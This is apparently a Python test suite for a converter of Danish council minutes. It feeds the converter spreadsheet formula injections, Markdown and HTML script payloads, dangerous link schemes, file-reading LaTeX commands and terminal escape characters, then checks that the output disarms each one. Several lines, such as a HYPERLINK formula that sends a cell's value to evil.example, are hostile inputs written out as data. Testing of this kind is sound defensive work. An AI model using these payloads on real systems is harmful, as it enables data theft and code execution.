#!/usr/bin/env python3
"""Text that means something to the program that reads our output: a spreadsheet, a terminal, pandoc, a browser, a parser
of XML.  Each case is looked at in what comes out, as that program reads it: a cell that is no formula and says what it
said, a paragraph that is text and nothing else, an address that leads nowhere, an attribute with the same value, a line
without a character that a terminal obeys.  (tests/office/outside.py has what a template brings with it.)"""
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
import zipfile
from xml.sax.saxutils import escape, quoteattr

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import law  # noqa: E402
from tap import SRC, converter, diag, done, is_, is_other_build, ok, skip  # noqa: E402

NS = '{urn:x-referat:1}'
XLINK = '{http://www.w3.org/1999/xlink}href'
SOURCE = '<source sha256="' + '0' * 64 + '" bytes="1" media-type="text/plain" encoding="UTF-8" generator="x"/>'
MINUTES = '<minutes xmlns="urn:x-referat:1" version="1" xml:lang="da" kind="minutes">' + SOURCE
cases = {}


def case(group, passed, name):
    cases[group] = cases.get(group, 0) + 1
    return ok(passed, f'{group}: {name}')


def run(program, *arguments, data=b''):
    return law.run(converter(program), *arguments, input=data)


# --- spreadsheets ---

FORMULAS = [
    '=1+1', '+1+1', '-1+1', '@SUM(1+1)*cmd', '="a"&A1', '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=cmd|'/C calc'!A0",
    '-2+3+cmd|x', '@x', '=', '+', '-', '@', ' =1+1', '\u00a0=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)',
    '\u200b=1+1', '\ufeff=1+1', '",=1+1', '";=1+1', 'a,=1+1', 'a;=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n+1', "'=1+1", '""=1+1', 'x"=1+1',
    'a,"=1+1', 'a;\t@x', '=1+1;=2+2,=3+3', '\t=1+1', '\n=1+1', '\r=1+1', '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil.example";"//a")', '- 1+1', 'a,= 1+1', 'a;+ 1+1',
]
BEFORE = ' \t\r\n\v\f\u00a0\ufeff\u200b"'
SIGNS = '=+-@\uff1d\uff0b\uff0d\uff20'


def is_formula(cell):
    bare = cell.lstrip(BEFORE)
    return len(bare) > 1 and bare[0] in SIGNS


def is_hidden_formula(piece):
    """The same where a program parts the record at other places; a hyphen before a space is a list's."""
    bare = piece.strip(BEFORE)
    return len(bare) > 1 and bare[0] in SIGNS and bare[:2] != '- '


def attribute(text):
    return quoteattr(text, {'\n': '&#10;', '\t': '&#9;', '\r': '&#13;'})


def as_item(number, text):
    """An item that has the text wherever a table of minutes takes it from."""
    a, t = attribute(text), escape(text, {'\r': '&#13;'})
    return (f'<item id="item-{number}" number={a} title={a} access="open" decided="yes"><heading><title>{t}</title></heading>'
            f'<case number={a}>{t}</case><section kind="decision" outcome="approved" body={a}><heading>Beslutning</heading><p>{t}</p>'
            f'<vote for="1" on="recommendation">{t} <person name={a} choice="for">{t}</person></vote>'
            f'<statement type="remark" by={a}><p>{t}</p></statement></section>'
            f'<section kind="annexes"><heading>Bilag</heading><annex name={a} type="pdf">{t}</annex></section></item>')


def spreadsheets():
    for text in FORMULAS:
        a = attribute(text)
        data = MINUTES + (f'<head body={a} date="2024-05-14"><title>Referat</title><field name="participants"><label>Deltagere</label>'
                          f'<person id="person-1" name={a} role="member" party={a}>x</person></field></head>') + as_item(1, text) + '</minutes>'
        forms = (('rfc4180', ','), ('dk', ';'))
        for form, comma in forms[len(text) % 2:][:1] if is_other_build() else forms:
            wrong, said = [], 0
            for table in ('decisions', 'items', 'annexes', 'attendance', 'votes', 'statements'):
                made = run('referat2xml', '-q', f'--extract={table}', f'--csv={form}', data=data.encode())
                if made.returncode:
                    wrong.append(f'{table}: status {made.returncode}: {made.stderr.decode()}')
                written = made.stdout.decode('utf-8-sig')
                rows = list(csv.reader(io.StringIO(written, newline=''), delimiter=comma))
                wrong += [f'{table}: {len(row)} cells of {len(rows[0])}' for row in rows if len(row) != len(rows[0])]
                wrong += [f'{table}: {cell!r}' for row in rows for cell in row if is_formula(cell)]
                wrong += [f'{table}: {piece!r} for another program' for piece in re.split('[,;\t\r\n]', written) if is_hidden_formula(piece)]
                said += sum(re.sub(r"[\s']", '', cell) == re.sub(r"[\s']", '', text) for row in rows for cell in row)
            if not case('CSV', not wrong and said >= 6, f'{text!r} as {form}: is text, and says what it said'):
                diag('\n'.join(wrong[:6]) or f'found {said} times')


# --- Markdown, as pandoc reads it ---

MARKS = [
    '(@) eksempel', '(@navn) et andet', '@. tredje', 'mødet (se @navn)', '[@navn, s. 3]', ':smile: kl. 10:30', '$x^2$ koster $5', '$$a$$', '\\(a\\) og \\[b\\]',
    '[x]: javascript:alert(1)', '[x]: http://evil.example "t"', '[^1]: note', '[x][y] og [x][]', '[tekst](javascript:alert(1))', '[tekst](http://evil.example)',
    '![billede](http://evil.example/x.png)', '![billede][x]', '<javascript:alert(1)>', '<https://evil.example>', '<a@evil.example>', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>',
    '<!-- skjult -->', '<?php evil ?>', '<![CDATA[x]]>', '</p><p>', '&lt;b&gt; &#60; &amp;', '`{=html}<b>`', '```{=html}', '~~~', '\\input{/etc/passwd}', '\\textbf{fed}', '\\write18{x}',
    '*[HTML]: Hyper', '# overskrift {#x onclick="y"}', '[tekst]{.x onclick="y"}', '::: {.x}', ':::', '---', '***', '===', '- [ ] opgave', '1. et', 'IV. fire', '| a | b |', '+---+---+', '> citat',
    '    kode', '**fed**', '__fed__', '*kursiv*', '~~streget~~', 'H~2~O x^2^', '==mærket==', 'www.evil.example', 'http://evil.example/a_b*c', '"anført"', "'x'", 'a -- b --- c ...', 'tre\\', '%  titel', '% forfatter',
    '{{ skabelon }}', '{% x %}', '<%= x %>', '[[wiki]]', '!include x', '@import "x"', '\u202ebidi',
]
PLAIN = {'Str', 'Space', 'SoftBreak', 'LineBreak', 'Quoted'}
READERS = {'pandoc': 'markdown+emoji', 'gfm': 'gfm+tex_math_dollars+emoji', 'commonmark': 'commonmark'}


def inlines(node, kinds):
    """The text below, and the kinds of what it is made of."""
    if isinstance(node, list):
        return ''.join(inlines(n, kinds) for n in node)
    if not isinstance(node, dict) or 't' not in node:
        return ''
    kinds.add(node['t'])
    quote = {'DoubleQuote': '"', 'SingleQuote': "'"}.get(node['c'][0]['t'], '') if node['t'] == 'Quoted' else ''
    return quote + (node['c'] if node['t'] == 'Str' else ' ' if node['t'] in PLAIN - {'Quoted'} else inlines(node.get('c'), kinds)) + quote


def normal(text):
    """Without what pandoc's smart marks change."""
    for old, new in ('’', "'"), ('‘', "'"), ('“', '"'), ('”', '"'), ('—', '---'), ('–', '--'), ('…', '...'):
        text = text.replace(old, new)
    return re.sub(r'\s+', ' ', text).strip()


def markdown():
    stop = 'Her er en sætning, som slutter.'
    data = MINUTES + '<head><title>Referat</title></head><item id="item-1" number="1" title="t" access="open" decided="no"><heading><title>En sag</title>' \
        '</heading><section kind="presentation"><heading>Sagsfremstilling</heading>' + ''.join(
            f'<p>{escape(text)}</p><p>{stop}</p>' for text in MARKS) + '</section></item></minutes>'
    if not shutil.which('pandoc'):
        skip(len(MARKS) * len(READERS), 'pandoc is not installed')
        cases['Markdown'] = 3 * len(MARKS)
        return
    for flavour, reader in READERS.items():
        md = run('referat2md', '-q', '--flavour', flavour, data=data.encode()).stdout
        tree = json.loads(subprocess.run(['pandoc', '--sandbox', '-f', reader, '-t', 'json'], input=md, capture_output=True, check=True).stdout)

        def paragraphs(blocks):
            for block in blocks:
                if block['t'] == 'Div':
                    yield from paragraphs(block['c'][1])
                else:
                    yield block
        found = []
        for block in paragraphs(tree['blocks']):
            kinds = set()
            text = normal(inlines(block.get('c'), kinds))
            if text != stop:
                found.append((text, block['t'], kinds))
        for text in MARKS:
            made = [(kind, kinds) for said, kind, kinds in found if said == normal(text)]
            # an address that stands in the text may be followed
            good = [1 for kind, kinds in made if kind == 'Para' and kinds <= PLAIN | ({'Link'} if 'evil.example' in text and flavour != 'pandoc' else set())]
            if not case('Markdown', good, f'{flavour}: {text!r} is a paragraph of text'):
                diag(made or [f for f in found if normal(text)[:4] in f[0]])


# --- where links lead ---

ADDRESSES = ['javascript:alert(1)//evil', 'JaVaScRiPt:evil', 'java\tscript:evil', '\tjavascript:evil', ' javascript:evil', '\u00a0javascript:evil', '\x7fjavascript:evil',
             'data:text/html,evil', 'vbscript:evil', 'file:///evil', '\\\\evil\\x', '//evil/x', 'ms-word:ofe|u|http://evil', 'about:evil', 'evil', '#evil', '../evil', 'ftp://evil/x', 'jar:http://evil',
             'vnd.sun.star.script:evil', 'macro:evil', 'tel:evil', 'http//evil', 'h\nttp://evil']


def leads(program, out):
    """All addresses in the output that hold the word."""
    if program in ('referat2docx', 'referat2odt'):
        with zipfile.ZipFile(io.BytesIO(out)) as z:
            return [v for name in z.namelist() if name.endswith(('.xml', '.rels')) for e in ET.fromstring(z.read(name)).iter()
                    for k, v in e.attrib.items() if k in ('Target', XLINK) and 'evil' in v]
    if program == 'referat2json':
        found = []
        json.loads(out, object_hook=lambda o: found.append(o['c'][2][0]) if o.get('t') in ('Link', 'Image') else o)
        return [address for address in found if 'evil' in address]
    found = subprocess.run(['pandoc', '--sandbox', '-f', 'markdown', '-t', 'html'], input=out, capture_output=True).stdout.decode() if shutil.which('pandoc') else ''
    return re.findall(r'(?:href|src)="[^"]*evil', found)


def links():
    good = 'https://evil.example/'
    for program in ('referat2docx', 'referat2odt', 'referat2json', 'referat2md'):
        def made(address):
            data = MINUTES + '<head><title>Referat</title></head><item id="item-1" number="1" title="t" access="open" decided="no"><heading><title>En sag</title>' \
                f'</heading><section kind="presentation"><p>Se <a href={attribute(address)}>her</a>.</p></section></item></minutes>'
            return run(program, '-q', data=data.encode())
        ok(leads(program, made(good).stdout) or (program == 'referat2md' and not shutil.which('pandoc')), f'links: {program}: the search finds {good}')
        for address in ADDRESSES:
            result = made(address)
            if not case('links', result.returncode == 0 and result.stdout and not leads(program, result.stdout) if '\x7f' not in address else
                        not leads(program, result.stdout), f'{program}: {address!r} leads nowhere'):
                diag(f'{result.returncode}: {leads(program, result.stdout)} {result.stderr.decode()}')


# --- attributes ---

SPECIAL = 'x" \' < > & ]]> --> <b onclick="y"> &amp; &#10; a\tb\nc'
FREE = {'name', 'number', 'title', 'body', 'place', 'municipality', 'party', 'person', 'for', 'by', 'generator', 'message', 'code', 'part', 'href', 'via', 'marker', 'type'}


def attributes():
    with open(os.path.join(SRC, 'tests/schema/all.xml'), encoding='utf-8') as file:
        whole = file.read()
    tree = ET.fromstring(whole)
    places = sorted({(e.tag, k) for e in tree.iter() for k in e.attrib if k in FREE})
    for tag, name in places:
        node = next(e for e in tree.iter(tag) if name in e.attrib)
        old, called = node.get(name), f'{tag.removeprefix(NS)}/@{name}'
        node.set(name, SPECIAL)
        data = ET.tostring(tree, encoding='utf-8')
        node.set(name, old)
        made = run('referat2xml', '-q', '-f', 'xml', data=data)
        if made.returncode:  # not of its type
            case('attributes', made.returncode == 65 and not made.stdout and made.stderr.count(b'\n') == 1, f'{called}: refused')
            continue
        again = [e.get(name) for e in ET.fromstring(made.stdout).iter(tag)]
        case('attributes', SPECIAL in again, f'{called}: the same in XML') or diag(again)
        for program in ('referat2docx', 'referat2odt'):
            result = run(program, '-q', '--embed-xml', data=data)
            wrong = []
            with zipfile.ZipFile(io.BytesIO(result.stdout)) as z:
                for part in z.namelist():
                    try:
                        wrong += [part] if part.endswith(('.xml', '.rels')) and [e for e in ET.fromstring(z.read(part)).iter() if e.tag == 'b' or e.get('onclick')] else []
                    except ET.ParseError as problem:
                        wrong.append(f'{part}: {problem}')
            case('attributes', not wrong, f'{called}: no tag of it in {program}') or diag(wrong)
        json.loads(run('referat2json', '-q', data=data).stdout)


# --- terminals ---

UNSAFE = ['\x1b[31m', '\x1b]0;t\x07', '\x08', '\x7f', '\x9b31m', '\x85', '\u00ad', '\u061c', '\u180e', '\u200b', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e',
          '\u2060', '\u2066', '\u2067', '\u2068', '\u2069', '\ufeff', '\ufffb', '\U000e0041']


def terminals(folder):
    def silent(group, made, text, name):
        said = made.stderr.decode('utf-8', 'surrogateescape') + (made.stdout.decode('utf-8', 'surrogateescape') if group == 'explaining' else '')
        bad = [c for c in text if ord(c) > 0x7e or ord(c) < 0x20]
        case(f'a terminal ({group})', said and not any(c in said for c in bad), name) or diag(repr(said))
    for text in UNSAFE:
        if not [c for c in text if ord(c) < 0x20]:  # XML cannot carry the others
            data = MINUTES + f'<finding code="item-number-gap" severity="warning" line="1" message="x{text}y"/>' + '<head><title>Referat</title></head></minutes>'
            silent('a finding', run('referat2xml', data=data.encode()), text, f'{text!r} in a message')
        page = f'REFERAT Udvalget d. 01-02-2024\n\nPunkt 1: En {text} sag\n\nBeslutning\n\nGodkendt {text}.\n\nPunkt 3: To\n\nTekst\n'
        silent('explaining', run('referat2xml', '--explain', data=page.encode()), text, f'{text!r} in a line')
        if '/' in text or '\0' in text:
            continue
        path = os.path.join(folder, f'a{text}b.txt')
        with open(path, 'w', encoding='utf-8') as file:
            file.write(page)
        silent('a name', run('referat2xml', path + 'x'), text, f'{text!r} in the name of a file')
        report = os.path.join(folder, 'report')
        many = subprocess.run([converter('referat2md'), '-d', os.path.join(folder, 'out'), '--report', report, '--', path, path + 'x'], capture_output=True)
        silent('many files', many, text, f'{text!r} in the names of many')
        with open(report, encoding='utf-8') as file:
            lines = file.read()
        told = [json.loads(line)['input'] for line in lines.split('\n') if line]
        case('a terminal (a report)', told == [path, path + 'x'] and not any(c in lines for c in text if not 0x20 <= ord(c) <= 0x7e),
             f'{text!r} in the names of a report') or diag(repr(lines))
        with open(os.path.join(folder, 'a.profile'), 'w', encoding='utf-8') as file:
            file.write(f'[sections]\nx{text} -> y{text} | z{text}\n')
        silent('a profile', run('referat2xml', '--check-profile', os.path.join(folder, 'a.profile')), text, f'{text!r} in a row')


spreadsheets()
markdown()
links()
attributes()
with tempfile.TemporaryDirectory() as temporary:
    os.mkdir(os.path.join(temporary, 'out'))
    terminals(temporary)
is_(sorted(group for group, count in cases.items() if count < 20), [], 'of each group there are at least twenty')
ok(sum(cases.values()) >= 400, f'cases: {sum(cases.values())} ({cases})')
done()
